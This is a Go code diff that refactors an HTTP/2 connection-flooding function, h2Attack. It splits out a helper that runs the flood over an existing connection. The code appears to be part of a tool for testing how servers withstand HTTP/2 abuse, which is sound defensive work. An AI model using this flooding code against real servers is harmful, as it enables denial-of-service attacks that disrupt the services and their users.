@@ -39,14 +39,23 @@ func h2Attacks() map[string]func(f *http2.Framer, block []byte, i int) error {
 // h2Attack floods one connection from the address ip until it is closed, and
 // returns how many frames (or pairs of them) it could send.
 func h2Attack(ip, to string, trust *tls.Config, frames func(*http2.Framer, []byte, int) error) (int, error) {
-	conf := trust.Clone()
-	conf.NextProtos = []string{"h2"}
-	d := tls.Dialer{NetDialer: &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}, Config: conf}
+	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
 	c, err := d.Dial("tcp", to)
 	if err != nil {
 		return 0, err
 	}
-	defer c.Close()
+	return h2AttackOver(c, trust, frames)
+}
+
+// h2AttackOver is h2Attack over a connection that is there already.
+func h2AttackOver(raw net.Conn, trust *tls.Config, frames func(*http2.Framer, []byte, int) error) (int, error) {
+	defer raw.Close()
+	conf := trust.Clone()
+	conf.NextProtos = []string{"h2"}
+	c := tls.Client(raw, conf)
+	if err := c.Handshake(); err != nil {
+		return 0, err
+	}
 	go io.Copy(io.Discard, c) // its client reads: only what it sends is abuse
 	var block bytes.Buffer
 	enc := hpack.NewEncoder(&block)
